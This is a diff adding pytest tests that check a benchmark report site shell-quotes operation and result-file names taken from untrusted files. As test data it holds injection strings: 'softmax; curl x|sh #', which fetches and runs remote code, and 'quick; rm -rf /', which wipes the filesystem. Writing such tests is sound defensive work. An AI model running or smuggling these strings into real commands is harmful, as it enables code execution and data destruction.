@@ -47,6 +47,28 @@ def test_run_takes_them(commands: list[str]) -> None:
         assert context.params["experiment"]
 
 
+def test_an_operation_of_a_strangers_file_is_one_word_of_a_command(tmp_path: Path) -> None:
+    hostile = "softmax; curl x|sh #"
+    records = [
+        {**c, "operation": hostile if c["operation"] == "softmax" else c["operation"]}
+        for c in report_run.cells()
+        if c["experiment"] == "throughput" and c["threads"] == 4
+    ]
+    site = build_site([report_run.run(records)], tmp_path / "site").parent
+    page = (site / "index.html").read_text(encoding="utf-8")
+    options = {html.unescape(o) for o in re.findall(r'<th [^>]*data-repeat="([^"]+)"', page)}
+    assert options
+    for option in options:
+        assert hostile in shlex.split(option)
+
+
+def test_a_run_of_other_data_promises_no_command(tmp_path: Path) -> None:
+    run = report_run.run(filters={"logits": "mine.npy"})
+    page = build_site([run], tmp_path / "site").read_text(encoding="utf-8")
+    assert "<p>Again:" not in page
+    assert 'data-repeat="' not in page
+
+
 def test_a_page_quotes_what_a_result_file_names(tmp_path: Path) -> None:
     """A profile or a baseline of a stranger's file is one word of the command."""
     hostile = "quick; rm -rf /"
